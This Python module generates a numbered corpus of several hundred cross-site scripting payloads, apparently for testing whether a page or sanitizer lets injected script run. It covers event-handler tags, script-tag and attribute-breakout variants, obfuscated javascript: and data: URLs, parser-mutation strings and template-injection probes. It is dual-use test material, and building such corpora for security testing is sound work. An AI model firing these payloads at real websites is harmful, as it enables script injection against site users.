"""
Texts that try to become scripts: some hundred ways in which a browser has been talked into running what it was shown.

Each is written with ``RUN`` where its script stands; ``hostile()`` numbers them, so that a page can tell which ran.
"""

from itertools import product

RUN = "RUN"
EVENTS_OF = {
    "img src=x": ["onerror", "onclick", "onmouseover", "onpointerenter"],
    "img src=/static/img/star.svg": ["onload", "oncontextmenu", "ondblclick"],
    "svg": ["onload", "onclick", "onmouseenter", "onfocusin"],
    "body": ["onload", "onpageshow", "onfocus", "onhashchange", "onresize"],
    "video src=x": ["onerror", "onloadstart", "oncanplay"],
    "audio src=x": ["onerror", "onloadstart"],
    "input autofocus": ["onfocus", "onblur", "oninput", "onchange"],
    "input type=image src=x": ["onerror", "onclick"],
    "textarea autofocus": ["onfocus", "onselect"],
    "select autofocus": ["onfocus"],
    "button autofocus": ["onfocus", "onclick"],
    "details open": ["ontoggle"],
    "iframe src=about:blank": ["onload"],
    "object data=x": ["onerror", "onload"],
    "embed src=x": ["onload", "onerror"],
    "marquee": ["onstart", "onclick"],
    "div tabindex=1": ["onclick", "onmouseover", "onfocus", "onkeydown", "onwheel", "oncopy", "ondragstart", "onpaste"],
    "p": ["onclick", "onmouseover", "onanimationstart", "ontransitionend", "onpointerdown"],
    "a href=/": ["onclick", "onmouseover", "onfocus", "onauxclick"],
    "table": ["onclick", "onmouseover"],
    "td": ["onclick", "onmouseover"],
    "h3": ["onclick", "onmousemove"],
    "form": ["onsubmit", "onreset", "onclick"],
    "style": ["onload"],
    "link rel=stylesheet href=/static/css/base.css": ["onload"],
    "math": ["onclick"],
    "x-y tabindex=1": ["onfocus", "onclick", "onmouseover"],
}
SCRIPTS = [
    "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<ScRiPt>RUN</sCrIpT>", "<script >RUN</script >",
    "<script\n>RUN</script\n>", "<script\t>RUN</script>", "<script/x>RUN</script>",
    "<script type=module>RUN</script>", "<<script>RUN//<</script>", "<script>RUN", "</script><script>RUN</script>",
    "<scr<script>ipt>RUN</script>", "<scr\0ipt>RUN</script>", "<script src=data:text/javascript,RUN></script>",
    "<script src='data:text/javascript,RUN'></script>", "<svg><script>RUN</script></svg>",
    "<svg><script href=data:text/javascript,RUN /></svg>", "<math><script>RUN</script></math>",
    "<svg><script>&#97;lert&#40;1&#41;;RUN</script>", "<!--><script>RUN</script>-->", "<!-- --!><script>RUN</script>",
    "<![CDATA[<script>RUN</script>]]>", "<?xml version='1.0'?><script>RUN</script>",
    "<noscript><script>RUN</script></noscript>", "<template><script>RUN</script></template><script>RUN</script>",
    "<plaintext><script>RUN</script>", "<title><script>RUN</script></title><script>RUN</script>",
    "<textarea></textarea><script>RUN</script>", "<xmp></xmp><script>RUN</script>",
    "<style></style><script>RUN</script>", "<iframe></iframe><script>RUN</script>", '"><script>RUN</script>',
    "'><script>RUN</script>", "\"'><script>RUN</script>", "--><script>RUN</script>", "]]><script>RUN</script>",
    "</title><script>RUN</script>", "</style><script>RUN</script>", "</textarea><script>RUN</script>",
    "</p><script>RUN</script><p>", "</a><script>RUN</script>", "</li></ul></section><script>RUN</script>",
]  # fmt: skip
OUT_OF_ATTRIBUTES = [
    '" onmouseover="RUN', "' onmouseover='RUN", '" autofocus onfocus="RUN', 'x" onerror="RUN" src="x',
    "` onerror=RUN `", '"><img src=x onerror=RUN>', "'><img src=x onerror=RUN>", "><img src=x onerror=RUN>",
    '" style="x" onclick="RUN', "x' onclick='RUN", "x onclick=RUN ", '" tabindex=1 onfocus=RUN x="',
    "&quot; onclick=&quot;RUN", "&#34; onclick=&#34;RUN", '"/><svg/onload=RUN>', '\\" onclick=\\"RUN',
    '"\tonclick="RUN', '"\fonclick="RUN', '"/onclick="RUN',
]  # fmt: skip
SCHEMES = [
    "javascript:RUN", "JAVASCRIPT:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "\tjavascript:RUN", "\njavascript:RUN",
    "\x01javascript:RUN", "java\tscript:RUN", "java\nscript:RUN", "java\rscript:RUN", "javascript\t:RUN",
    "javascript:\nRUN", "javascript://x%0aRUN", "javascript:/*x*/RUN", "javascript:void(RUN)",
    "javascript:window['a'+'lert'];RUN", "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=RUN>",
    "vbscript:RUN", "livescript:RUN", "feed:javascript:RUN", "view-source:javascript:RUN", "jar:javascript:RUN",
    "blob:javascript:RUN", "//evil.example/RUN", "/\\evil.example/RUN", "\\\\evil.example/RUN",
    "https:javascript:RUN", "http://javascript:RUN@evil.example/", "/javascript:RUN", "#javascript:RUN",
    "?javascript:RUN", "javascript&colon;RUN", "&#106;avascript:RUN", "&#x6A;avascript:RUN", "&#0000106avascript:RUN",
    "java&#x09;script:RUN", "java&Tab;script:RUN", "java&NewLine;script:RUN", "%6Aavascript:RUN",
    "javascript&#58;RUN",
]  # fmt: skip
HOLDERS = [
    '<a href="{0}">x</a>', "<a href='{0}'>x</a>", '<svg><a xlink:href="{0}"><text y=20>x</text></a></svg>',
    '<iframe src="{0}"></iframe>', '<form action="{0}"><button>x</button></form>',
    '<button form=f formaction="{0}">x</button><form id=f></form>', '<object data="{0}"></object>',
    '<embed src="{0}">', '<math href="{0}">x</math>', '<area shape=default href="{0}">',
]  # fmt: skip
MUTANTS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>',
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<svg><style><img src=x onerror=RUN></style></svg>", "<svg><title><img src=x onerror=RUN></title></svg>",
    "<svg><desc><script>RUN</script></desc></svg>", "<table><tr><td><svg><desc><td><img src=x onerror=RUN>",
    "<select><template><img src=x onerror=RUN></template></select><img src=x onerror=RUN>",
    "<p><svg><p><img src=x onerror=RUN></p></svg></p>", "<b><a><b><img src=x onerror=RUN></a></b>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><set onbegin=RUN attributename=x to=1>",
    "<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>RUN</scri"
    "pt></svg>#x\"/></svg>",
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "<iframe srcdoc='&lt;img src=x onerror=parent.RUN&gt;'></iframe>",
    '<meta http-equiv=refresh content="0;url=javascript:RUN">', "<base href='javascript:RUN//'><a href='x'>x</a>",
    "<style>@import 'javascript:RUN';</style><img src=x onerror=RUN>",
    '<div style="background:url(javascript:RUN)">x</div>', '<div style="width:expression(RUN)">x</div>',
    '<link rel=import href="data:text/html,<script>RUN</script>">', "<img src=x:x onerror=RUN//",
    "<img src=x onerror\n=\nRUN>", "<img/src=x/onerror=RUN>", "<img src=`x`onerror=RUN>", "<img src=x onerror=RUN",
    "<img \0src=x onerror=RUN>", '<img src=x onerror="&#82;";RUN>', "<IMG SRC=x ONERROR=RUN>",
    "<image src=x onerror=RUN>", "<img src=x onerror=eval('RUN')>", "<img src=x onerror=window.onerror=eval;RUN>",
    "<svg/onload=RUN>", "<svg onload=RUN//", "<svg\fonload=RUN>", "<svg id=x onload=RUN></svg>",
    "<svg><svg/onload=RUN>", "<video><source onerror=RUN></video>",
    "<picture><source srcset=x><img src=x onerror=RUN></picture>",
    "<details><summary>x</summary><img src=x onerror=RUN></details>", "<dialog open onclick=RUN>x</dialog>",
    "<a href=/ onclick=RUN>x</a>", "<a href=x id=a onfocus=RUN tabindex=1>x</a>",
    "<p title='<img src=x onerror=RUN>'>x</p><img src=x onerror=RUN>",
    "<div hx-on:load=RUN hx-on::load=RUN hx-trigger=load hx-get=/>x</div><img src=x onerror=RUN>",
    "<p data-reload=1 data-confirm=x data-countdown=x onclick=RUN>x</p>",
    "<ul data-strip onclick=RUN><li data-strip-rail>x</ul>",
    "<img name=body><form id=confirm onclick=RUN><input name=showModal></form>",
    "<a id=messages name=cookie onclick=RUN>x</a>", "{{ 7|add:7 }}<img src=x onerror=RUN>",
    "{% debug %}<img src=x onerror=RUN>", "{{constructor.constructor('RUN')()}}<img src=x onerror=RUN>",
    "${RUN}<img src=x onerror=RUN>", "+ADw-script+AD4-RUN+ADw-/script+AD4-<img src=x onerror=RUN>",
    "＜script＞RUN＜/script＞<img src=x onerror=RUN>", "\u2028<img src=x onerror=RUN>", "\ufeff<img src=x onerror=RUN>",
    "茶<img src=x onerror=RUN>器",
]  # fmt: skip


def _written() -> list[str]:
    made = [
        f"<{tag} {event}=RUN>{'x' if ' ' not in tag or 'tabindex' in tag or 'href' in tag else ''}"
        for tag, events in EVENTS_OF.items()
        for event in events
    ]
    made += SCRIPTS + OUT_OF_ATTRIBUTES + SCHEMES + MUTANTS
    made += [holder.format(scheme) for holder, scheme in product(HOLDERS, SCHEMES[:3] + SCHEMES[16:17])]
    return list(dict.fromkeys(made))


def hostile() -> list[str]:
    """All of them; what the n-th runs is ``alert(n)``."""
    return [text.replace(RUN, f"alert({number})") for number, text in enumerate(_written())]
